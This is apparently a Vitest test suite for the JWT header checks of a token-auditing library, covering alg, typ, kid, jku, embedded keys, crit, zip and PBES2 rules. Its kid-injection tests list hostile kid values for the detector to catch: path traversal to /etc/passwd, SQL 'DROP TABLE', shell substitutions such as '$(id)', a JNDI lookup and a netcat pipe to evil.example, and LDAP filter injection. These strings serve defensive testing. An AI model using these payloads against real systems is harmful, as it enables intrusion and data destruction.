import { type AuditOptions, type AuditSubject, audit } from 'jwtight/audit';
import { describe, expect, it } from 'vitest';
import {
  accessTokenWith,
  base64url,
  findingsOf,
  fires,
  goodClaims,
  goodHeader,
  NOW,
  quiet,
  rawToken,
} from '../support.js';

const GOOD = accessTokenWith();
const withHeader = (changes: Record<string, unknown>): string => accessTokenWith({}, changes);
const draft = (header?: Record<string, unknown>, claims = goodClaims()): AuditSubject => ({
  draft: header ? { header, claims } : { claims },
});
const jwe = (header: Record<string, unknown>): string =>
  `${base64url(JSON.stringify({ alg: 'dir', enc: 'A256GCM', ...header }))}..AAAA.AAAA.AAAA`;
const EC = { kty: 'EC', crv: 'P-256', x: 'AA', y: 'AA' };
const unreadable = ['', 'a.b.c', rawToken('[]', goodClaims())];

describe('header/alg-missing', () => {
  it.each<[unknown, string]>([
    [undefined, '/token/header'],
    [5, '/token/header/alg'],
    [null, '/token/header/alg'],
    [['ES256'], '/token/header/alg'],
    ['', '/token/header/alg'],
  ])('fires for %j', async (alg, path) => {
    expect(await fires('header/alg-missing', { token: withHeader({ alg }) })).toMatchObject({ severity: 'high', path });
  });

  it('fires for a draft when nothing else tells', async () => {
    expect((await fires('header/alg-missing', draft({}))).path).toBe('/draft/header');
    expect((await fires('header/alg-missing', { ...draft({ alg: 5 }), algorithm: 'ES256' })).path).toBe(
      '/draft/header/alg',
    );
  });

  it('fires for a token even when its algorithm is said', async () => {
    await fires('header/alg-missing', { token: withHeader({ alg: undefined }), algorithm: 'ES256' });
  });

  it.each<AuditSubject>([
    { token: GOOD },
    { token: jwe({}) },
    draft({ alg: 'ES256' }),
    draft(),
    { ...draft({ typ: 'at+jwt' }), algorithm: 'ES256' },
    { ...draft({}), key: { ...EC, alg: 'ES256' } },
    ...unreadable.map((token) => ({ token })),
  ])('is quiet otherwise (%#)', async (subject) => {
    await quiet('header/alg-missing', subject);
  });
});

describe('header/typ-missing', () => {
  const untyped = (claims: object, typ?: unknown): string => rawToken({ alg: 'ES256', typ }, claims);

  it.each<[string, object, AuditOptions, string]>([
    ['access', { scope: 'read' }, {}, 'medium'],
    ['a logout token', { events: { 'http://schemas.openid.net/event/backchannel-logout': {} } }, {}, 'medium'],
    ['a DPoP proof', { htm: 'GET', htu: 'https://a.example' }, {}, 'medium'],
    ['an ID token', { nonce: 'n' }, {}, 'low'],
    ['an unknown kind', {}, {}, 'low'],
    ['a kind that is said', {}, { kind: 'access' }, 'medium'],
  ])('%s', async (_what, claims, options, severity) => {
    expect(await fires('header/typ-missing', { token: untyped(claims) }, options)).toMatchObject({
      severity,
      path: '/token/header',
    });
  });

  it.each([5, '', null])('fires for %j', async (typ) => {
    expect((await fires('header/typ-missing', { token: untyped({}, typ) })).path).toBe('/token/header/typ');
  });

  it('looks at drafts, where they have a header', async () => {
    expect((await fires('header/typ-missing', draft({}))).path).toBe('/draft/header');
    await quiet('header/typ-missing', draft());
  });

  it.each([GOOD, untyped({}, 'JWT'), ...unreadable])('is quiet otherwise', async (token) => {
    await quiet('header/typ-missing', { token });
  });
});

describe('header/typ-generic', () => {
  const token = withHeader({ typ: 'JWT' });

  it.each(['JWT', 'jwt', 'application/jwt'])('fires for %s with several kinds', async (typ) => {
    const subject: AuditSubject = { token: withHeader({ typ }), issuance: { kinds: ['access', 'id'] } };
    expect(await fires('header/typ-generic', subject)).toMatchObject({ severity: 'low', path: '/token/header/typ' });
  });

  it('looks at drafts', async () => {
    const subject: AuditSubject = { ...draft({ typ: 'JWT' }), issuance: { kinds: ['access', 'id'] } };
    expect((await fires('header/typ-generic', subject)).path).toBe('/draft/header/typ');
  });

  it.each<[string, AuditSubject]>([
    ['one kind', { token, issuance: { kinds: ['access'] } }],
    ['one kind twice', { token, issuance: { kinds: ['access', 'access'] } }],
    ['kinds that are not said', { token, issuance: {} }],
    ['a type of its own', { token: GOOD, issuance: { kinds: ['access', 'id'] } }],
    ['no type', { token: withHeader({ typ: undefined }), issuance: { kinds: ['access', 'id'] } }],
  ])('is quiet with %s', async (_what, subject) => {
    await quiet('header/typ-generic', subject);
  });
});

describe('header/kid-missing', () => {
  const token = withHeader({ kid: undefined });
  const two = { keys: [EC, EC] };

  it.each<[string, AuditSubject, string]>([
    ['several keys', { token, jwks: two }, 'medium'],
    ['rotation', { token, issuance: { keyRotation: { every: '30d' } } }, 'medium'],
    ['rotation of one key', { token, jwks: { keys: [EC] }, issuance: { keyRotation: {} } }, 'medium'],
    ['one key', { token, jwks: { keys: [EC] } }, 'info'],
    ['one key that signs', { token, jwks: { keys: [EC, { ...EC, use: 'enc' }] } }, 'info'],
    ['one key and no rotation', { token, jwks: { keys: [EC] }, issuance: { keyRotation: false } }, 'info'],
  ])('with %s', async (_what, subject, severity) => {
    expect(await fires('header/kid-missing', subject)).toMatchObject({ severity, path: '/token/header' });
  });

  it.each([5, '', null])('fires for %j', async (kid) => {
    const found = await fires('header/kid-missing', { token: withHeader({ kid }), jwks: two });
    expect(found.path).toBe('/token/header/kid');
  });

  it('fires for a draft whose key has no id', async () => {
    expect((await fires('header/kid-missing', { ...draft({}), jwks: two, key: EC })).path).toBe('/draft/header');
  });

  it('fires for a token whatever id the key has', async () => {
    await fires('header/kid-missing', { token, jwks: two, key: { ...EC, kid: 'a' } });
  });

  it.each<[string, AuditSubject]>([
    ['kid', { token: GOOD, jwks: two }],
    ['no key', { token, jwks: { keys: [] } }],
    ['no rotation', { token, issuance: { keyRotation: false } }],
    ['rotation not said', { token, issuance: {} }],
    ['a draft whose key has an id', { ...draft({}), jwks: two, key: { ...EC, kid: 'a' } }],
    ['a DPoP proof', { token: withHeader({ kid: undefined, typ: 'dpop+jwt' }), jwks: two }],
    ['nothing to read', { token: '', jwks: two }],
  ])('is quiet with %s', async (_what, subject) => {
    await quiet('header/kid-missing', subject);
  });
});

describe('header/kid-unresolved and header/kid-ambiguous', () => {
  const set = (...keys: object[]): AuditSubject => ({ token: GOOD, jwks: { keys } });
  const mine = { ...EC, kid: '2026-11' };

  it.each([[[]], [[EC]], [[{ ...EC, kid: 'other' }]], [[{ ...EC, kid: 2026 }]]])('unresolved in %j', async (keys) => {
    expect(await fires('header/kid-unresolved', set(...keys))).toMatchObject({
      severity: 'medium',
      path: '/token/header/kid',
    });
  });

  it.each<[string, AuditSubject]>([
    ['the key is there', set(EC, mine)],
    ['there are two', set(mine, mine)],
    ['there is no kid', { ...set(EC), token: withHeader({ kid: undefined }) }],
    ['kid is no text', { ...set(EC), token: withHeader({ kid: 5 }) }],
    ['the set is unreadable', { token: GOOD, jwks: '<html>' }],
  ])('is quiet when %s', async (_what, subject) => {
    await quiet('header/kid-unresolved', subject);
  });

  it('ambiguous when type and use are the same', async () => {
    for (const use of [{}, { use: 'sig' }])
      expect(
        await fires('header/kid-ambiguous', set({ ...mine, ...use }, EC, { ...mine, ...use, x: 'AQ' })),
      ).toMatchObject({ severity: 'high', path: '/token/header/kid', rootCause: 'jwks/duplicate-kid' });
  });

  it.each<[string, AuditSubject]>([
    ['one key', set(mine, EC)],
    ['other types', set(mine, { kty: 'RSA', kid: '2026-11', n: 'AA', e: 'AQAB' })],
    ['other uses', set({ ...mine, use: 'sig' }, { ...mine, use: 'enc' })],
    ['no kid', { ...set(EC, EC), token: withHeader({ kid: undefined }) }],
    ['no key', set()],
  ])('not ambiguous: %s', async (_what, subject) => {
    await quiet('header/kid-ambiguous', subject);
  });
});

describe('header/kid-injection', () => {
  it.each([
    '../../../../dev/null',
    '..\\..\\windows\\win.ini',
    'keys/..',
    '/dev/null',
    '/etc/passwd',
    '/proc/sys/kernel/randomize_va_space',
    'file:///etc/hostname',
    'key\u0000.pem',
    'key%00',
    '%2e%2e%2fkey',
    "x' OR '1'='1",
    "x' UNION SELECT 'key' --",
    "x'; DROP TABLE keys",
    "x'--",
    '1 union all select k from keys',
    '1; DELETE FROM keys',
    '$(id)',
    '`whoami`',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker writes
    '${jndi:ldap://evil.example/a}',
    'key && id',
    'key || id',
    'key; sleep 10',
    'key | nc evil.example 80',
    '*)(uid=*',
    'key)(|(uid=a',
    'key)(&(uid=a',
    'key)(!(uid=a',
    `${'a'.repeat(100_000)}/../../etc`,
  ])('%.40s', async (kid) => {
    expect(await fires('header/kid-injection', { token: withHeader({ kid }) })).toMatchObject({
      severity: 'high',
      confidence: 'likely',
      path: '/token/header/kid',
    });
  });

  it.each([
    '2026-11',
    'key/1',
    'a:b#c',
    'nOo3ZDrODXEK1jKWhXslHR_KXEg',
    'https://vault.azure.net/keys/signing/7f3c?api-version=7.4&x=1',
    'did:web:example.com#key-1',
    'spiffe://example.org/ns/prod/sa/api',
    'arn:aws:kms:eu-west-1:111122223333:key/1234abcd',
    'urn:uuid:5f1b8a9e-0000-4000-8000-000000000000',
    'projects/p/locations/global/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1',
    'rX+/abc==',
    "o'reilly",
    "the union's key",
    'a..b',
    '100%',
    'key (old)',
    'key*',
    'key; old',
    'key | old',
    'selected; updated-at 5',
    '$HOME',
    '`key',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that nobody filled in
    '${KID}',
    'etc/keys',
    'profile:a',
  ])('is quiet for %s', async (kid) => {
    await quiet('header/kid-injection', { token: withHeader({ kid }) });
  });

  it.each(['$', '{', ' ', "'", '`', '(', ')', ';', '|', '..', '/', 'union '].map((part) => `\${${part}`))(
    'takes no time over %j',
    async (part) => {
      const token = withHeader({ kid: part.repeat(150_000 / part.length) });
      const start = performance.now();
      await findingsOf('header/kid-injection', { token });
      expect(performance.now() - start).toBeLessThan(500);
    },
  );

  it('is quiet without a text', async () => {
    for (const kid of [undefined, 5, ['../../x']]) await quiet('header/kid-injection', { token: withHeader({ kid }) });
  });
});

describe('header/jku-untrusted', () => {
  it.each(['jku', 'x5u'])('%s', async (name) => {
    const token = withHeader({ [name]: 'https://auth.example.com/keys' });
    expect(await fires('header/jku-untrusted', { token })).toMatchObject({
      severity: 'medium',
      path: `/token/header/${name}`,
      rootCause: 'header-key',
    });
    expect((await fires('header/jku-untrusted', draft({ [name]: 'x' }))).path).toBe(`/draft/header/${name}`);
    const listed = await fires('header/jku-untrusted', { token, verifier: { trustsHeaderKeys: ['jku', 'x5u'] } });
    expect(listed.severity).toBe('medium');
  });

  it('is critical where a verifier follows any of them', async () => {
    const token = withHeader({ jku: 'https://auth.example.com/keys' });
    const found = await findingsOf('header/jku-untrusted', { token, verifier: [{}, { trustsHeaderKeys: true }] });
    expect(found.map(({ severity, path }) => [severity, path])).toEqual([
      ['critical', '/token/header/jku'],
      ['critical', '/verifier/1/trustsHeaderKeys'],
    ]);
    await fires('header/jku-untrusted', { verifier: { trustsHeaderKeys: true } });
  });

  it.each<AuditSubject>([{ token: GOOD }, { verifier: {} }, { verifier: { trustsHeaderKeys: false } }, { token: '' }])(
    'is quiet otherwise',
    async (subject) => {
      await quiet('header/jku-untrusted', subject);
    },
  );
});

describe('header/jku-insecure-url', () => {
  it.each([
    'http://auth.example.com/keys',
    'ftp://auth.example.com',
    '//auth.example.com/keys',
    'keys.json',
    'https://user@auth.example.com/',
    'https://:word@auth.example.com/',
    'https://192.0.2.1/keys',
    'https://0x7f000001/',
    'https://2130706433/',
    'https://127.0.0.1./',
    'https://[::1]/',
    'https://[2001:db8::1]/',
    'https://localhost/',
    'https://localhost./',
    'https://a.localhost/',
    'https://keys/',
    'https://keys.local/',
    'https://keys.lan/',
    'https://keys.corp/',
    'https://keys.internal/',
    'https://keys.intranet/',
    'https://keys.localdomain/',
    'https://box.home.arpa/',
    5,
    null,
  ])('%s', async (jku) => {
    expect(await fires('header/jku-insecure-url', { token: withHeader({ jku }) })).toMatchObject({
      severity: 'high',
      path: '/token/header/jku',
    });
  });

  it('looks at x5u, drafts and sets', async () => {
    expect((await fires('header/jku-insecure-url', { token: withHeader({ x5u: 'http://a.example' }) })).path).toBe(
      '/token/header/x5u',
    );
    expect((await fires('header/jku-insecure-url', draft({ jku: 'http://a.example' }))).path).toBe('/draft/header/jku');
    const keys = [EC, { ...EC, x5u: 'http://a.example' }, { ...EC, x5u: 'https://a.example' }];
    expect((await fires('header/jku-insecure-url', { jwks: { keys } })).path).toBe('/jwks/keys/1/x5u');
  });

  it.each([
    'https://auth.example.com/keys',
    'HTTPS://AUTH.EXAMPLE.COM:8443/keys?x=1#y',
    'https://local.example.com/',
    'https://internal.example.com/',
    'https://1.2.3.4.example.com/',
    'https://notlocalhost.com/',
    'https://auth.example.com./',
  ])('is quiet for %s', async (jku) => {
    await quiet('header/jku-insecure-url', { token: withHeader({ jku }) });
  });

  it.each(['https://192.0.2.1/keys', 'https://[::1]/', 'https://user:word@auth.example.com/'])(
    'a verifier fetches from %s',
    async (jwksUrl) => {
      const found = await fires('header/jku-insecure-url', { verifier: [{}, { jwksUrl }] });
      expect(found).toMatchObject({ severity: 'high', path: '/verifier/1/jwksUrl' });
    },
  );

  it.each([
    'https://auth.example.com/keys',
    'https://kubernetes.default.svc.cluster.local/openid/v1/jwks',
    'https://localhost:8443/keys',
    // That is jwks/insecure-url.
    'http://127.0.0.1/keys',
    'https://',
  ])('a verifier may fetch from %s', async (jwksUrl) => {
    await quiet('header/jku-insecure-url', { verifier: { jwksUrl } });
  });

  it.each<AuditSubject>([{ token: GOOD }, { token: '' }, { jwks: '' }, { verifier: {} }])(
    'is quiet without any',
    async (subject) => {
      await quiet('header/jku-insecure-url', subject);
    },
  );
});

describe('header/embedded-jwk', () => {
  const id = 'header/embedded-jwk';

  it.each(['jwk', 'x5c'])('%s', async (name) => {
    const token = withHeader({ [name]: name === 'jwk' ? EC : ['AAAA'] });
    expect(await fires(id, { token })).toMatchObject({
      severity: 'medium',
      path: `/token/header/${name}`,
      rootCause: 'header-key',
    });
    expect((await fires(id, { token, verifier: { trustsHeaderKeys: ['jku'] } })).severity).toBe('medium');
    for (const trustsHeaderKeys of [true, [name as 'jwk']]) {
      const found = await findingsOf(id, { token, verifier: { trustsHeaderKeys } });
      expect(found.every(({ severity }) => severity === 'critical')).toBe(true);
      expect(found.map(({ path }) => path)).toContain(`/token/header/${name}`);
      expect(found.map(({ path }) => path)).toContain('/verifier/trustsHeaderKeys');
    }
  });

  it('is information in a DPoP proof', async () => {
    const token = withHeader({ jwk: EC, typ: 'dpop+jwt' });
    expect((await fires(id, { token })).severity).toBe('info');
    expect((await fires(id, { token, verifier: { type: 'dpop+jwt', trustsHeaderKeys: ['jwk'] } })).severity).toBe(
      'info',
    );
    // A proof carries no certificate.
    expect((await fires(id, { token: withHeader({ x5c: ['A'], typ: 'dpop+jwt' }) })).severity).toBe('medium');
  });

  it('is information where certificates are anchored', async () => {
    const context = { x5cAnchored: true };
    const verifier = { trustsHeaderKeys: ['x5c'] as const };
    expect((await fires(id, { token: withHeader({ x5c: ['A'] }), verifier }, { context })).severity).toBe('info');
    expect((await fires(id, { token: withHeader({ jwk: EC }), verifier }, { context })).severity).toBe('medium');
    await quiet(id, { verifier }, { context });
  });

  it('is critical for a verifier alone', async () => {
    for (const name of ['jwk', 'x5c'] as const)
      expect(await fires(id, { verifier: [{}, { trustsHeaderKeys: [name] }] })).toMatchObject({
        severity: 'critical',
        path: '/verifier/1/trustsHeaderKeys',
      });
  });

  it.each<AuditSubject>([
    { token: GOOD },
    { token: '' },
    { verifier: {} },
    { verifier: { trustsHeaderKeys: ['jku'] } },
    { verifier: { type: 'dpop+jwt', trustsHeaderKeys: ['jwk'] } },
  ])('is quiet otherwise (%#)', async (subject) => {
    await quiet(id, subject);
  });
});

describe('header/embedded-private-key', () => {
  it.each(['d', 'p', 'q', 'dp', 'dq', 'qi', 'oth', 'priv', 'k'])('%s', async (name) => {
    expect(
      await fires('header/embedded-private-key', { token: withHeader({ jwk: { kty: 'EC', [name]: 'AA' } }) }),
    ).toMatchObject({
      severity: 'critical',
      path: '/token/header/jwk',
      rootCause: 'private-published',
    });
  });

  it('looks at drafts and DPoP proofs', async () => {
    expect((await fires('header/embedded-private-key', draft({ jwk: { d: 'AA' } }))).path).toBe('/draft/header/jwk');
    await fires('header/embedded-private-key', { token: withHeader({ typ: 'dpop+jwt', jwk: { d: 'AA' } }) });
  });

  it.each([undefined, EC, 'text', ['d'], null, 5])('is quiet for %j', async (jwk) => {
    await quiet('header/embedded-private-key', { token: withHeader({ jwk }) });
  });
});

describe('header/crit-invalid', () => {
  const id = 'header/crit-invalid';

  const malformed: unknown[] = [
    [],
    'exp',
    null,
    {},
    ['x', 'x'],
    ['absent'],
    ['toString'],
    [5],
    ...['alg', 'kid', 'typ', 'cty', 'jwk', 'jku', 'x5t', 'x5t#S256', 'crit', 'enc', 'p2c'].map((name) => [name]),
  ];

  it.each(malformed.map((crit) => ({ crit })))('%j', async ({ crit }) => {
    const header = { crit, x: 1, '5': 1, cty: 'x', jwk: EC, jku: 'x', x5t: 'x', 'x5t#S256': 'x', enc: 'x', p2c: 1 };
    expect(await fires(id, { token: withHeader(header) })).toMatchObject({
      severity: 'high',
      path: '/token/header/crit',
    });
  });

  it('fires for an extension when a verifier is there, which supports none', async () => {
    const header = { crit: ['x'], x: 1 };
    await fires(id, { token: withHeader(header), verifier: {} });
    expect((await fires(id, { ...draft(header), verifier: {} })).path).toBe('/draft/header/crit');
  });

  it.each<AuditSubject>([
    { token: GOOD },
    { token: GOOD, verifier: {} },
    { token: withHeader({ crit: ['x', 'b64'], x: 1, b64: true }) },
    { token: withHeader({ crit: ['algx'], algx: 1 }) },
    { token: withHeader({ crit: ['xalg'], xalg: 1 }) },
  ])('is quiet otherwise (%#)', async (subject) => {
    await quiet(id, subject);
  });
});

describe('header/b64-in-jwt', () => {
  it.each([
    { b64: false, crit: ['b64'] },
    { b64: false },
    { b64: true },
    { b64: true, crit: ['x'] },
    { b64: true, crit: 'b64' },
  ])('%j', async (header) => {
    expect(await fires('header/b64-in-jwt', { token: withHeader(header) })).toMatchObject({
      severity: 'high',
      path: '/token/header/b64',
    });
    expect((await fires('header/b64-in-jwt', draft(header))).path).toBe('/draft/header/b64');
  });

  it('is one mistake with the crit that has to name it', async () => {
    const token = withHeader({ b64: false, crit: ['b64'] });
    const { deductions } = await audit({ token, verifier: { algorithms: ['ES256'] } }, { now: NOW });
    const charged = deductions.filter(({ ruleId }) => ruleId.startsWith('header/'));
    expect(charged).toMatchObject([{ ruleId: 'header/b64-in-jwt', covers: ['header/crit-invalid'] }]);
  });

  it.each([{}, { b64: true, crit: ['b64'] }, { crit: ['b64'] }])('is quiet for %j', async (header) => {
    await quiet('header/b64-in-jwt', { token: withHeader(header) });
  });
});

describe('header/zip-present', () => {
  const token = jwe({ zip: 'DEF' });

  it.each<[string, AuditSubject, string]>([
    ['alone', { token }, 'medium'],
    ['with a limit', { token, verifier: { maxTokenLength: 8192 } }, 'medium'],
    ['without a limit', { token, verifier: {} }, 'high'],
    ['with one of two limits', { token, verifier: [{ maxTokenLength: 8192 }, {}] }, 'high'],
  ])('%s', async (_what, subject, severity) => {
    expect(await fires('header/zip-present', subject)).toMatchObject({ severity, path: '/token/header/zip' });
  });

  it.each([GOOD, withHeader({ zip: 'DEF' }), jwe({}), '....'])('is quiet otherwise', async (text) => {
    await quiet('header/zip-present', { token: text });
  });
});

describe('header/pbes2-iterations', () => {
  const id = 'header/pbes2-iterations';
  const alg = 'PBES2-HS256+A128KW';
  const withCount = (p2c: unknown): AuditSubject => ({ token: jwe({ alg, p2c }) });

  it('has a range', async () => {
    const path = '/token/header/p2c';
    expect(await fires(id, withCount(1_200_001))).toMatchObject({ severity: 'high', basis: 'policy', path });
    expect(await fires(id, withCount(309_999))).toMatchObject({ severity: 'low', path });
    for (const p2c of [1_200_000, 310_000, undefined, '5']) await quiet(id, withCount(p2c));
  });

  it('finds verifiers without a cap', async () => {
    expect(await fires(id, { verifier: [{ algorithms: ['ES256', alg] }] })).toMatchObject({
      severity: 'high',
      confidence: 'possible',
      path: '/verifier/0/algorithms/1',
    });
    await fires(id, { ...withCount(600_000), verifier: { algorithms: [alg] } });
  });

  it.each<AuditSubject>([
    { token: withHeader({ p2c: 5 }) },
    { token: jwe({ p2c: 5 }), verifier: {} },
    { verifier: { algorithms: ['ES256'] } },
  ])('is quiet for other algorithms', async (subject) => {
    await quiet(id, subject);
  });

  it('looks at no p2c of another algorithm', async () => {
    expect((await fires(id, { token: jwe({ p2c: 5 }), verifier: { algorithms: [alg] } })).path).toBe(
      '/verifier/algorithms/0',
    );
  });
});

describe('names that pollute', () => {
  it('are no parameters', async () => {
    const token = rawToken(
      '{"alg":"ES256","typ":"at+jwt","__proto__":{"jku":"http://a.example","jwk":{"d":"AA"}}}',
      goodClaims(),
    );
    for (const id of ['header/jku-untrusted', 'header/embedded-jwk', 'header/embedded-private-key'])
      await quiet(id, { token });
    expect(goodHeader()).toHaveProperty('kid');
  });
});
